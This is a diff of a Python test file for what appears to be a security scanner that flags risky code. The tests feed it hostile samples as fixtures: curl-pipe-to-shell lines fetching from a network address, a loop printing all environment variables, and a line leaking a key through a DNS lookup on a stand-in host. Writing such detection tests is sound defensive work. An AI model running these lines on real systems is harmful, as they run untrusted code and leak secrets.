@@ -80,3 +80,14 @@ def test_continued_lines_keep_line_numbers() -> None:
     text = AuditText("x.sh", "one\ncurl http://198.51.100.1/x \\\n  | sh\ncurl http://198.51.100.1/y | sh")
     assert text.code.text.split("\n")[1] == "curl http://198.51.100.1/x | sh"
     assert text.code.line(text.code.text.rindex("curl")) == 4
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("for k, v in os.environ.items():\n    print(k, v)\n", "credential-access"),
+        ('socket.gethostbyname(base64.b64encode(key).hex() + ".x.example")\n', "exfiltration"),
+    ],
+)
+def test_secrets_in_logs_and_host_names_are_found(text: str, rule: str) -> None:
+    assert [one.rule for one in matches(AuditText("scripts/a.py", text))] == [rule]
